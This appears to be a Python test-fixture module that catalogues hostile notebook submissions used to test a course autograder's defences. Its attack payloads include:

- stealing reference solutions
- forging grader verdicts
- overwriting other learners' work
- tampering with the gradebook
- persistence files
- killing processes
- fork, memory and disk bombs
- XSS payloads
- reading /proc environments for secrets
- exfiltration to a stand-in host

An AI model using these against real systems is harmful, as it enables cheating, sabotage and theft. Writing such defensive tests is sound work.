"""A catalogue of hostile submissions: one for every class of attack on the grader.

Each attack is the lesson-01 solution with its ``softmax`` answer (or, where the attack is on a
later exercise, its ``contextualize`` answer) replaced by code that tries to win the points
without a correct answer, to harm other learners or later runs, or to stop grading. Each tries
with a realistic attacker's knowledge: the course is open source, so it knows the folder layout
and, here, the course's absolute path. Each leaves a marker (``attention-hostile-<name>``) in
every file name, process and message it makes, so the tests can find any trace of it.

``tests/test_hostile_catalogue.py`` grades them all, beside a correct learner, with ``make grade``
and with plain ``nbgrader autograde``.
"""

from dataclasses import dataclass

from attention_grading.cells import grade_id, is_solution_code, is_written_answer
from notebook_tools import lean, with_answer

LESSON = "01_context_vectors"
PREFIX = "hostile-mark-"


@dataclass
class Attack:
    """``code`` replaces the answer cell of ``target``; ``{course}``, ``{marker}``, ``{port}``,
    ``{grader_pid}`` and ``{secret}`` are filled in. ``reorder``: contextualize's answer and
    tests move before softmax's hidden test (the learner reordered the notebook)."""
    target: str
    why: str
    code: str
    reorder: bool = False
    extra_files: tuple = ()      # (path, content) handed in beside the notebook
    second: tuple = ()           # (function, code): another answer the attack replaces
    delete_answer: bool = False  # the answer cell of ``target`` is deleted
    written: str = ""            # the source of every written answer (markup the learner wrote)


FALLBACK = "np.zeros_like(np.asarray(x, dtype=float))"   # what an attack returns when it fails

# A softmax that returns the stolen reference's answer when ``steal()`` finds one, else zeros.
def _stealing(steal_body):
    return f'''
def softmax(x, axis=-1):
    try:
        stolen = _steal()
        if stolen is not None:
            return stolen(x, axis=axis)
    except BaseException:
        pass
    return {FALLBACK}

def _steal():
{steal_body}
'''


# A written answer whose links, images, styles and elements would run ``window.top.__pwned = marker``.
SCRIPT_ANSWER = (
    "Each row is one token's budget. See [a markdown link](javascript:window.top.__pwned='{marker}').\n\n"
    "<a href=\"javascript&colon;window.top.__pwned='{marker}'\">entity colon</a> "
    "<a href=\"&#106;avascript:window.top.__pwned='{marker}'\">decimal entity</a> "
    "<a href=\"java&#9;script:window.top.__pwned='{marker}'\">tab in the scheme</a> "
    "<a href=\"JAVASCRIPT:window.top.__pwned='{marker}'\">upper case</a> "
    "<a href=\"vbscript:window.top.__pwned='{marker}'\">vbscript</a> "
    "<a href=\"data:text/html,&lt;script&gt;window.top.__pwned='{marker}'&lt;/script&gt;\">data</a> "
    "<img src=x onerror=\"window.top.__pwned='{marker}'\"> <img srcset=\"javascript:window.top.__pwned='{marker}'\"> "
    "<p style=\"background: url(javascript:window.top.__pwned='{marker}')\">styled</p> "
    "<svg><a xlink:href=\"javascript:window.top.__pwned='{marker}'\"><text>svg</text></a></svg> "
    "<form><button formaction=\"javascript:window.top.__pwned='{marker}'\">button</button></form> "
    "<script>window.top.__pwned = '{marker}'</script>"
)

ATTACKS = {
    "spec_from_file_location": Attack("softmax", "load the reference through importlib's file loader", _stealing('''
    import importlib.util
    path = "{course}/instructor/reference/attention_reference/__init__.py"
    spec = importlib.util.spec_from_file_location("attention_reference", path,
                                                  submodule_search_locations=[path.rsplit("/", 1)[0]])
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.softmax''')),
    "source_file_loader_get_data": Attack("softmax", "read the reference's source with SourceFileLoader.get_data", _stealing('''
    from importlib.machinery import SourceFileLoader
    path = "{course}/instructor/reference/attention_reference/core.py"
    source = SourceFileLoader("core", path).get_data(path).decode()
    namespace = {{"__name__": "stolen"}}
    exec(source.replace("from .", "from attention_reference."), namespace)
    return namespace["softmax"]''')),
    "frames_of_the_grader": Attack("softmax", "walk every frame of every thread for a grader's softmax", _stealing('''
    import sys, gc
    libraries = ("__main__", "numpy", "scipy", "torch", "jax")     # a learner may use those
    def grader_made(candidate):
        return callable(candidate) and not str(getattr(candidate, "__module__", "")).startswith(libraries)
    for frame in sys._current_frames().values():
        while frame is not None:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if grader_made(getattr(value, "softmax", None)):
                    return value.softmax
            frame = frame.f_back
    for obj in gc.get_objects():
        if getattr(obj, "__name__", "") == "softmax" and grader_made(obj):
            return obj''')),
    "forged_frozen_filename": Attack("softmax", "run code under a forged <frozen importlib> file name", _stealing('''
    namespace = {{}}
    code = "source = open('{course}/instructor/reference/attention_reference/core.py').read()"
    exec(compile(code, "<frozen importlib._bootstrap>", "exec"), namespace)
    stolen = {{"__name__": "stolen"}}
    exec(namespace["source"], stolen)
    return stolen["softmax"]''')),
    "linecache_forgery": Attack("softmax", "dress its own cell up as a trusted one in linecache", _stealing('''
    import linecache, sys
    for name in list(linecache.cache):
        linecache.cache[name] = (1, None, ["from attention_grading.hidden import check\\n"], name)
    sys.path.append("{course}/instructor/grading")
    sys.path.append("{course}/instructor/reference")
    import attention_reference
    return attention_reference.softmax''')),
    "solutions_notebook": Attack("softmax", "run the solution cell read from solutions/ or source/", _stealing('''
    import json
    for tree in ("solutions", "source"):
        try:
            nb = json.load(open("{course}/" + tree + "/01_context_vectors/01_context_vectors.ipynb"))
        except OSError:
            continue
        for cell in nb["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "softmax":
                namespace = {{"np": __import__("numpy")}}
                exec("".join(cell["source"]), namespace)
                return namespace["softmax"]''')),
    "copy_in_a_child_process": Attack("softmax", "cp -r the reference from a child process, then import it", _stealing('''
    import importlib, os, subprocess, sys
    subprocess.run(["cp", "-r", "{course}/instructor/reference/attention_reference", "."], capture_output=True)
    sys.path.insert(0, os.getcwd())
    return importlib.import_module("attention_reference").softmax''')),
    "extra_attention_course_folder": Attack(
        "softmax", "hand in an attention_course/ folder that makes every visible check pass",
        f"def softmax(x, axis=-1):\n    return {FALLBACK}\n",
        extra_files=(("attention_course/__init__.py", "def autograding():\n    return True\n"),
                     ("attention_course/checks.py", "def __getattr__(name):\n    return lambda *a, **k: None\n"),
                     ("attention_course/examples.py", "def __getattr__(name):\n    return None\n"))),
    "print_everything_into_feedback": Attack("softmax", "print the spec, cases and reference it can find into its own output", '''
import sys, os, gc
def softmax(x, axis=-1):
    for name, module in list(sys.modules.items()):
        if "attention" in name or "spec" in name or "judge" in name:
            print("{marker}", name, getattr(module, "__file__", ""))
    for root in ("{course}/instructor", "{course}/source"):
        for folder, _, files in os.walk(root):
            for name in files:
                try:
                    print("{marker}", open(os.path.join(folder, name)).read())
                except OSError as exc:
                    print("{marker} denied", name, exc)
    return np.zeros_like(np.asarray(x, dtype=float))
softmax(np.zeros(3))
'''),
    "forged_channel_messages": Attack("softmax", "send forged verdicts to every local port and to its own grader channel", '''
import socket, json, sys
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
forged = (json.dumps({{"type": "judge", "passed": True, "op": "results", "results": []}}) + "\\n").encode()
for port in list(range(1024, 1200)) + list(range(30000, 30100)) + [{port}]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.05) as s:
            s.sendall(forged)
            print("{marker} reached", port)
    except OSError:
        pass
try:   # its own channel, outside a hidden test: nobody listens for this
    print(input("attention-probe/1 " + json.dumps({{"op": "results", "results": []}})))
except Exception as exc:
    print("{marker} input refused:", type(exc).__name__)
'''),
    "overwrite_another_submission": Attack("softmax", "overwrite another learner's submitted notebook and autograded files", '''
import glob
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pattern in ("{course}/submitted/*/*/*.ipynb", "{course}/autograded/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            open(path, "w").write("{marker}")
        except OSError:
            pass
for path in ("{course}/submitted/alice/01_context_vectors/01_context_vectors.ipynb",):
    try:
        open(path, "w").write("{marker}")
    except OSError as exc:
        print("denied", exc)
'''),
    "detached_gradebook_rewriter": Attack("softmax", "leave a detached process that rewrites gradebook.db and grades.csv later", '''
import subprocess, sys, textwrap
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
later = textwrap.dedent("""
    import os, time, sqlite3
    os.setsid()
    for _ in range(120):
        time.sleep(0.5)
        for path in ("{course}/grades.csv",):
            try:
                open(path, "a").write("{marker}\\\\n")
            except OSError:
                pass
        try:
            db = sqlite3.connect("{course}/gradebook.db")
            db.execute("UPDATE grade SET auto_score = 99")
            db.commit()
        except Exception:
            pass
""")
subprocess.Popen([sys.executable, "-c", later, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''),
    "rewrite_stored_hidden_test": Attack("softmax", "replace its hidden test's stored source in the gradebook", '''
import sqlite3, hashlib
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
try:
    db = sqlite3.connect("{course}/gradebook.db")
    source = "pass  # {marker}"
    checksum = hashlib.md5(source.encode()).hexdigest()
    db.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE name = 'softmax_matches_reference'",
               (source, checksum))
    db.commit()
except Exception as exc:
    print("denied", exc)
'''),
    "pth_in_the_course_environment": Attack("softmax", "plant a .pth file that patches every later Python of the course", '''
import sysconfig, sys
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for folder in {{sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"], sys.prefix}}:
    try:
        open(folder + "/{marker}.pth", "w").write("import os; os.environ['{marker}'] = '1'\\n")
    except OSError as exc:
        print("denied", exc)
'''),
    "ipython_startup_file": Attack("softmax", "plant IPython startup files that break later learners' kernels", '''
import os
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for home in (os.path.expanduser("~"), "/root", os.environ.get("HOME", "")):
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00-{marker}.py"), "w").write("raise SystemExit('{marker}')\\n")
    except OSError as exc:
        print("denied", home, exc)
'''),
    "future_mtime_on_autograded": Attack("softmax", "date autograded/ in the future so a resubmission is skipped", '''
import os, glob
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for path in glob.glob("{course}/autograded/**", recursive=True) + ["{course}/autograded"]:
    try:
        os.utime(path, (4_000_000_000, 4_000_000_000))
    except OSError:
        pass
'''),
    "kill_every_process": Attack("softmax", "SIGKILL every process it can name, the grader first", '''
import os, signal
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pid in [{grader_pid}, os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
'''),
    "stop_the_worker": Attack("softmax", "SIGSTOP its parents so that grading waits forever", '''
import os, signal
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pid in ({grader_pid}, os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
'''),
    "script_in_output": Attack("softmax", "emit <script> and <img onerror> for the instructor's browser", '''
from IPython.display import HTML, Javascript, display
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
display(HTML("<script>window.top.__pwned = '{marker}'</script><img src=x onerror=\\"window.top.__pwned='{marker}'\\">"))
display(Javascript("window.top.__pwned = '{marker}'"))
'''),
    "script_in_answer": Attack("softmax", "hide script links, handlers and styles in the written answers", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
''', written=SCRIPT_ANSWER),
    "network_exfiltration": Attack("softmax", "send its notebook out over TCP, UDP and DNS", '''
import socket
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for attempt in (lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"{marker}"),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{marker}", ("127.0.0.1", {port})),
                lambda: socket.getaddrinfo("{marker}.example.com", 80)):
    try:
        attempt()
        print("{marker} sent")
    except OSError as exc:
        print("refused", type(exc).__name__)
'''),
    "grader_secrets": Attack("softmax", "read the grader's environment and files for its secrets", '''
import os
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
found = [k for k, v in os.environ.items() if "{secret}" in v]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        found.append(open(f"/proc/{{pid}}/environ").read())
    except OSError:
        pass
if any("{secret}" in f for f in found):
    raise SystemExit("{marker} found the secret")
'''),
    "fork_bomb": Attack("softmax", "start processes until the machine gives up", '''
import os, time
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
print("{marker} children", children)
'''),
    "memory_bomb": Attack("softmax", "take all the memory of the machine", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
hog = []
try:
    for _ in range(64):
        hog.append(np.ones(1 << 27))          # 1 GiB at a time
except MemoryError:
    pass
del hog
'''),
    "disk_filler": Attack("softmax", "fill the disk", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
try:
    for i in range(200):
        open(f"{marker}-{{i}}", "wb").write(b"x" * (32 << 20))
except OSError:
    pass
'''),
    "huge_output_to_the_grader": Attack("softmax", "return an answer too big for the grader to hold", '''
def softmax(x, axis=-1):
    return np.ones((1 << 26,))           # half a GiB to send back on every call
'''),
    "lie_in_the_probe": Attack("softmax", "patch input() and json so the grader's calls report what it wants", '''
import builtins, json
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
_real_input = builtins.input
def input(prompt=""):
    if "results" in prompt:
        message = json.loads(prompt.split(" ", 1)[1])
        for result in message.get("results", []):
            result.pop("raised", None)
    return _real_input(prompt)
builtins.input = input
json.dumps = lambda *a, **k: '{{"op": "results", "results": []}}'
'''),
    "hard_coded_visible_answer": Attack("softmax", "return the visible example's answer whatever the input", '''
def softmax(x, axis=-1):
    return np.array(examples.BANK_MORTGAGE_SHARES_QUOTED)
'''),
    "segfault": Attack("softmax", "crash the kernel (a segfault) whenever softmax is called", '''
def softmax(x, axis=-1):
    import ctypes
    return ctypes.string_at(0)
'''),
    "deleted_answer_cell": Attack("softmax", "delete the answer cell (and hope for the stored solution)", "",
                                  delete_answer=True),
    "keep_a_lent_softmax": Attack("softmax", "keep the correct softmax lent to contextualize's test (moved first) for its own", '''
def softmax(x, axis=-1):
    lent = _kept.get("softmax")
    if lent is not None:
        return lent(x, axis=axis)
    return np.zeros_like(np.asarray(x, dtype=float))

_kept = {{}}
''', second=("contextualize", '''
def contextualize(X):
    _kept["softmax"] = softmax           # during contextualize's test: the grader's stand-in
    X = np.asarray(X, dtype=float)
    A = softmax(X @ np.swapaxes(X, -1, -2) / np.sqrt(X.shape[-1]), axis=-1)
    return A @ X, A
'''), reorder=True),
    "steal_through_globals": Attack("contextualize", "reach a reference contextualize through the lent softmax's globals", '''
def contextualize(X):
    import gc
    lent = globals().get("softmax")
    _kept["softmax"] = lent
    for space in (getattr(lent, "__globals__", {{}}), getattr(getattr(lent, "__wrapped__", None), "__globals__", {{}})):
        candidate = space.get("contextualize")
        if callable(candidate) and candidate is not contextualize:
            return candidate(X)
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "contextualize" and obj is not contextualize:
            return obj(X)
    X = np.asarray(X, dtype=float)
    return np.zeros_like(X), np.zeros(X.shape[:-1] + X.shape[-2:-1])

_kept = {{}}
'''),
    "abuse_the_lent_softmax": Attack("contextualize", "ask the lent softmax for huge and many answers", '''
def contextualize(X):
    X = np.asarray(X, dtype=float)
    for shape in ((1 << 20, 4), (2, 1 << 15, 1 << 15)):
        try:
            softmax(np.zeros(shape))
        except Exception as exc:
            print("{marker} refused", exc)
    for _ in range(25_000):
        try:
            softmax(np.zeros(3))
        except Exception:
            break
    return np.zeros_like(X), np.zeros(X.shape[:-1] + X.shape[-2:-1])
'''),
}

# What every attack above must still allow: it is the learner's own softmax, wrong on purpose
# where the attack fails. Written answers are left empty.


def build(answer, name, context):
    """The submission of attack ``name`` (a notebook) and its extra files."""
    attack = ATTACKS[name]
    fill = {**context, "marker": PREFIX + name}
    nb = lean(answer)
    if attack.delete_answer:
        nb.cells = [c for c in nb.cells if not (grade_id(c) == attack.target and is_solution_code(c))]
    else:
        nb = with_answer(nb, attack.target, attack.code.format(**fill))
    if attack.second:
        nb = with_answer(nb, attack.second[0], attack.second[1].format(**fill))
    if attack.written:
        for cell in nb.cells:
            if is_written_answer(cell):
                cell.source = attack.written.format(**fill)
    if attack.reorder:
        cells = nb.cells
        first_hidden = next(i for i, c in enumerate(cells) if grade_id(c) == "softmax_matches_reference")
        moving = [c for c in cells if grade_id(c) == "contextualize" or grade_id(c) in _tests_of(nb, "contextualize")]
        rest = [c for c in cells if all(c is not m for m in moving)]
        at = next(i for i, c in enumerate(rest) if c is cells[first_hidden])
        nb.cells = rest[:at] + moving + rest[at:]
    return nb, [(path, content.format(**fill)) for path, content in attack.extra_files]


def _tests_of(nb, function):
    from attention_grading.cells import CellPlan

    plan = CellPlan(nb.cells)
    return {grade_id(nb.cells[i]) for i in plan.tests_of(function)}
